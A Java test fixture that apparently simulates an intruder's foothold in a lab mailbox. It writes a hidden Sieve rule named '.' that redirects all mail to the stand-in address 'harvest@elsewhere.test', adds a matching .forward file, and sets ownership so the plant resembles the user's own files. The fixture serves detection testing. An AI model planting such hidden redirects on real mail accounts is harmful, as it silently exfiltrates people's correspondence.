// SPDX-License-Identifier: Apache-2.0
package argine;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

/**
 * What a thief leaves in a mailbox of the lab: a rule named {@code .} in a script named {@code .},
 * as webmail shows neither, and a {@code .forward}.
 */
final class PlantedFoothold {
    static final String HARVEST = "harvest@elsewhere.test";

    private final Path home;

    PlantedFoothold(Path home) {
        this.home = home;
    }

    /** All of it belongs to the user of the mailboxes. */
    void plant(Object owner) throws IOException {
        Path folder = Files.createDirectories(home.resolve("sieve"));
        Files.writeString(folder.resolve("..sieve"), "# rule:[.]\nredirect \"" + HARVEST + "\";\n");
        Files.createSymbolicLink(home.resolve(".dovecot.sieve"), Path.of("sieve/..sieve"));
        Files.writeString(home.resolve(".forward"), HARVEST + "\n");
        try (Stream<Path> all = Files.walk(home)) {
            for (Path one : all.filter(file -> !Files.isSymbolicLink(file)).toList()) {
                Files.setAttribute(one, "unix:uid", owner);
            }
        }
    }

    void remove() throws IOException {
        Files.delete(home.resolve(".dovecot.sieve"));
        Files.delete(home.resolve("sieve/..sieve"));
        Files.delete(home.resolve(".forward"));
    }
}
